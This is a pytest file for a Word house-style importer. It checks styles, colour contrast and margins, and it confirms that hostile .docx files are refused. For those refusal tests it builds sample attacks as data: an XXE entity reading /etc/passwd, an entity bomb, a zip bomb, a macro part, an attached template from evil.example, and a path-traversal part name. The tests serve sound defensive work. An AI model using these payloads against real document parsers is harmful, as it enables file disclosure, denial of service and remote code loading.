"""House styles: our own folder, somebody's Word file, and what is refused."""

from __future__ import annotations

import io
import re
import shutil
import zipfile
from collections.abc import Callable
from functools import partial
from pathlib import Path

import docx
import pytest
from docx.shared import Cm, RGBColor

from stratgen.colour import LEGIBLE, contrast
from stratgen.errors import StyleError
from stratgen.word import HouseStyle, brand_style, house_style, lint, starter_docx, write
from stratgen.word.colour import darkened, shade, tint
from stratgen.word.style import ROLES, tone_fills
from tests.word.builders import HOUSE, bound, maximal, minimal, the_style

PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de0000000c49444154789c63606060000000040001f61738550000000049454e44ae426082"
)


@pytest.fixture(name="starter")
def a_starter(tmp_path: Path) -> Path:
    """Return the starter house style as a file."""
    path = tmp_path / "house-style.docx"
    path.write_bytes(starter_docx(the_style()))
    return path


def rewritten(path: Path, change: Callable[[dict[str, bytes]], None]) -> Path:
    """Return a copy of a Word file with some of its parts changed."""
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    change(parts)
    copy = path.with_name("changed.docx")
    with zipfile.ZipFile(copy, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return copy


def refusal(path: Path) -> str:
    """Return why a file is refused as a house style."""
    with pytest.raises(StyleError) as caught:
        brand_style(path, the_style())
    return str(caught.value)


def test_our_house_style_has_every_published_style() -> None:
    """Rule: every role has a style in the folder."""
    assert set(the_style().ids) == set(ROLES)


@pytest.mark.parametrize("file", ["styles.xml", "theme.xml", "numbering.xml", "setup.xml"])
def test_a_folder_that_lacks_a_part_is_refused_by_name(file: str, tmp_path: Path) -> None:
    """Rule: the fault names the file."""
    shutil.copytree(HOUSE, tmp_path / "style")
    (tmp_path / "style" / file).unlink()
    with pytest.raises(StyleError, match=re.escape(file)):
        house_style(tmp_path / "style")


def test_a_part_that_is_not_xml_is_refused_with_its_line(tmp_path: Path) -> None:
    """Rule: the fault names the file and the line."""
    shutil.copytree(HOUSE, tmp_path / "style")
    (tmp_path / "style" / "styles.xml").write_text("<styles>\n<style>\n", "utf-8")
    with pytest.raises(StyleError, match=r"styles\.xml:[23]"):
        house_style(tmp_path / "style")


def test_a_missing_style_is_named(tmp_path: Path) -> None:
    """Rule: the fault names the style and says where to get it."""
    shutil.copytree(HOUSE, tmp_path / "style")
    styles = tmp_path / "style" / "styles.xml"
    styles.write_text(styles.read_text("utf-8").replace('"Callout Decision"', '"Boxed Decision"'), "utf-8")
    with pytest.raises(StyleError, match='the style "Callout Decision" is missing'):
        house_style(tmp_path / "style")


def test_a_set_up_that_is_not_complete_is_refused(tmp_path: Path) -> None:
    """Rule: the fault says what is wrong with the set-up."""
    shutil.copytree(HOUSE, tmp_path / "style")
    setup = tmp_path / "style" / "setup.xml"
    setup.write_text(setup.read_text("utf-8").replace('top="', 'tip="'), "utf-8")
    with pytest.raises(StyleError, match="the set-up is not complete"):
        house_style(tmp_path / "style")


def test_every_tone_is_legible_in_any_theme() -> None:
    """Rule: words on a tone have a contrast of 4.5, in light words or dark."""
    rated = {"good": "D3EBDC", "watch": "FBE7BF", "bad": "F6D3CF", "none": "E9EDEF"}
    for accent in ("0E4D5C", "FFFF00", "777777", "FF0000", "000000", "FFFFFF", "4F81BD"):
        for fill in tone_fills({"accent1": accent, "accent2": accent, "dk1": "1F2A30"}, rated).values():
            assert contrast(fill.colour, "FFFFFF" if fill.reversed else "1F2A30") >= LEGIBLE


def test_colours_are_reckoned_as_word_does() -> None:
    """Rule: a tint keeps the hue and lightens, a shade darkens, and darkening ends in something legible."""
    assert tint("000000", 0x80) == "7F7F7F"
    assert shade("FFFFFF", 0x80) == "808080"
    assert round(contrast("000000", "FFFFFF"), 1) == 21.0
    assert contrast(darkened("FFFF00"), "FFFFFF") >= LEGIBLE


def test_the_starter_shows_every_paragraph_style() -> None:
    """Rule: a designer finds every style of the published list at work in the starter."""
    with zipfile.ZipFile(io.BytesIO(starter_docx(the_style()))) as archive:
        text = "".join(archive.read(name).decode() for name in archive.namelist() if name.endswith(".xml"))
    used = set(re.findall(r'<w:(?:pStyle|rStyle|tblStyle) w:val="([^"]+)"', text))
    head_only = {"client", "title", "subtitle", "details", "body", "table-end", "cell-reversed"}
    assert {number for role, number in the_style().ids.items() if role not in head_only} <= used


def test_the_starter_passes_our_lint() -> None:
    """Rule: the starter is a document like any other."""
    assert lint(starter_docx(the_style())) == []


def test_the_starter_is_taken_back(starter: Path) -> None:
    """Rule: a starter that nobody changed gives documents that look the same."""
    brand = brand_style(starter, the_style())
    assert brand.margins == the_style().margins
    assert dict(brand.ids) == dict(the_style().ids)
    assert dict(brand.fills) == dict(the_style().fills)
    assert lint(write(maximal(), brand)) == []
    assert lint(write(bound(), brand)) == []


def test_what_a_designer_changes_is_taken_over(starter: Path) -> None:
    """Rule: fonts, colours and margins of the file win."""
    read = docx.Document(str(starter))
    read.styles["Callout Decision Title"].font.name = "Georgia"
    read.sections[-1].left_margin = Cm(3)
    read.save(str(starter))
    brand = brand_style(starter, the_style())
    assert '"Georgia"' in brand.styles
    assert brand.margins.left == 1701


def a_brand(tmp_path: Path, base: HouseStyle | None = None) -> HouseStyle:
    """Return the house style of a document that python-docx makes, which has few of our styles."""
    path = tmp_path / "brand.docx"
    made = docx.Document()
    for level in range(1, 5):
        made.styles[f"Heading {level}"].font.color.rgb = RGBColor(0x80, 0, 0)
    made.save(str(path))
    return brand_style(path, base or the_style())


def test_a_brand_keeps_its_own_styles_and_gets_those_it_lacks(tmp_path: Path) -> None:
    """Rule: styles are found by name, whatever the case, and only missing roles are taken over.

    The lint still says where the brand's own colours are hard to read: that is for the brand to mend.
    """
    brand = a_brand(tmp_path)
    assert brand.ids["heading-1"] == "Heading1"
    assert "800000" in brand.styles
    assert brand.ids["callout-decision"] == "CalloutDecision"
    assert brand.colours["accent1"] == "4F81BD"
    assert [fault for fault in lint(write(maximal(), brand)) if "hard to read" not in fault] == []
    assert [fault for fault in lint(write(bound(), brand)) if "hard to read" not in fault] == []


def test_the_contents_are_never_a_numbered_section(tmp_path: Path) -> None:
    """Rule: where a brand bases TOC Heading on Heading 1, "Contents" still counts as nothing."""
    brand = a_brand(tmp_path)
    with zipfile.ZipFile(io.BytesIO(write(maximal(), brand))) as archive:
        body = archive.read("word/document.xml").decode()
    head = body[body.index('w:val="TOCHeading"') : body.index(">Contents<")]
    assert f'<w:numId w:val="{brand.numbering.numbers["stratgen-plain"]}"/>' in head


def test_tab_stops_of_a_brands_header_do_not_catch_ours(tmp_path: Path) -> None:
    """Rule: the right half of the header stands at the right margin, whatever stops the style has."""
    with zipfile.ZipFile(io.BytesIO(write(minimal(), a_brand(tmp_path)))) as archive:
        header = archive.read("word/header2.xml").decode()
    assert header.count('w:val="clear"') == 2
    assert header.count('<w:tab w:val="right"') == 1


def test_a_style_id_that_is_taken_gives_way(starter: Path) -> None:
    """Rule: a brand's style keeps its id even if ours would have the same."""

    def rename(parts: dict[str, bytes]) -> None:
        parts["word/styles.xml"] = parts["word/styles.xml"].replace(b'w:val="Lead"', b'w:val="Intro"')

    brand = brand_style(rewritten(starter, rename), the_style())
    assert brand.ids["lead"] == "LeadStratgen"
    assert '<w:name w:val="Intro"/>' in brand.styles


def test_localised_ids_are_found_by_name(starter: Path) -> None:
    """Rule: a German Word calls Heading 1 "berschrift1", and its name is still "heading 1"."""

    def localise(parts: dict[str, bytes]) -> None:
        parts["word/styles.xml"] = parts["word/styles.xml"].replace(b'"Heading1"', b'"berschrift1"')

    brand = brand_style(rewritten(starter, localise), the_style())
    assert brand.ids["heading-1"] == "berschrift1"
    assert lint(write(maximal(), brand)) == []


def test_a_logo_in_the_header_is_taken_over(tmp_path: Path) -> None:
    """Rule: a plain picture in the header comes along, small enough for a header, marked as decoration."""
    path = tmp_path / "brand.docx"
    (tmp_path / "logo.png").write_bytes(PNG)
    read = docx.Document(io.BytesIO(starter_docx(the_style())))
    header = read.sections[-1].header
    header.paragraphs[0].add_run().add_picture(str(tmp_path / "logo.png"), width=Cm(9))
    read.save(str(path))
    brand = brand_style(path, the_style())
    assert brand.header_picture is not None
    assert brand.header_picture.height == 1_080_000
    data = write(minimal(), brand)
    assert lint(data) == []
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert archive.read("word/media/header.png") == PNG


def test_two_brands_of_one_file_write_the_same_bytes(starter: Path) -> None:
    """Rule: reading a style leaves no trace either."""
    one, two = brand_style(starter, the_style()), brand_style(starter, the_style())
    assert write(maximal(), one) == write(maximal(), two)


def test_something_that_is_no_word_file_is_refused(tmp_path: Path) -> None:
    """Rule: the fault says what to do."""
    path = tmp_path / "notes.docx"
    path.write_bytes(b"not a zip file")
    assert "Open it in Word and save it as .docx." in refusal(path)
    assert "cannot be read" in refusal(tmp_path / "nothing.docx")


def test_a_truncated_file_is_refused(starter: Path) -> None:
    """Rule: half a file is not a house style."""
    starter.write_bytes(starter.read_bytes()[:5000])
    assert "damaged" in refusal(starter)


def test_a_document_type_is_refused(starter: Path) -> None:
    """Rule: no part may bring entities, in whatever encoding."""
    for encoding in ("utf-8", "utf-16"):
        hostile = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
        text = f'<?xml version="1.0" encoding="{encoding}"?>{hostile}'.encode(encoding)
        change = partial(_replace, "word/styles.xml", text)
        assert "document type" in refusal(rewritten(starter, change))


def _replace(name: str, content: bytes, parts: dict[str, bytes]) -> None:
    parts[name] = content


def test_an_entity_bomb_is_refused(starter: Path) -> None:
    """Rule: entities are never expanded."""
    levels = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12))
    bomb = f'<!DOCTYPE x [<!ENTITY e0 "ha">{levels}]><x>&e11;</x>'.encode()
    assert re.search(
        "document type|not well-formed",
        refusal(rewritten(starter, lambda parts: parts.update({"word/theme/theme1.xml": bomb}))),
    )


def test_a_zip_bomb_is_refused(starter: Path) -> None:
    """Rule: a part that unpacks to far more than it should is not unpacked."""
    bomb = rewritten(starter, lambda parts: parts.update({"word/media/x.png": b"\0" * 30_000_000}))
    assert "unpacks to far more" in refusal(bomb)


def test_macros_are_refused(starter: Path) -> None:
    """Rule: a file with code is no house style, whatever it is called."""
    assert "macros" in refusal(
        rewritten(starter, lambda parts: parts.update({"word/vbaProject.bin": b"\xd0\xcf"}))
    )


def test_what_reaches_outside_is_refused(starter: Path) -> None:
    """Rule: attached templates and linked pictures are refused; links that a reader would click are not."""

    def attach(parts: dict[str, bytes]) -> None:
        parts["word/_rels/settings.xml.rels"] = (
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
            b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
            b'Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
        )

    assert "points outside the file (attachedTemplate" in refusal(rewritten(starter, attach))


def test_a_path_that_climbs_out_is_refused(starter: Path) -> None:
    """Rule: names of parts stay inside the package."""
    assert "not a name that Word gives" in refusal(
        rewritten(starter, lambda parts: parts.update({"../x.xml": b"<x/>"}))
    )


def test_a_theme_without_colours_is_refused(starter: Path) -> None:
    """Rule: the fault names the colours that are missing."""

    def drop(parts: dict[str, bytes]) -> None:
        theme = parts["word/theme/theme1.xml"].decode()
        parts["word/theme/theme1.xml"] = re.sub(r"<a:accent3>.*?</a:accent3>", "", theme).encode()

    assert "the theme has no colour for accent3" in refusal(rewritten(starter, drop))
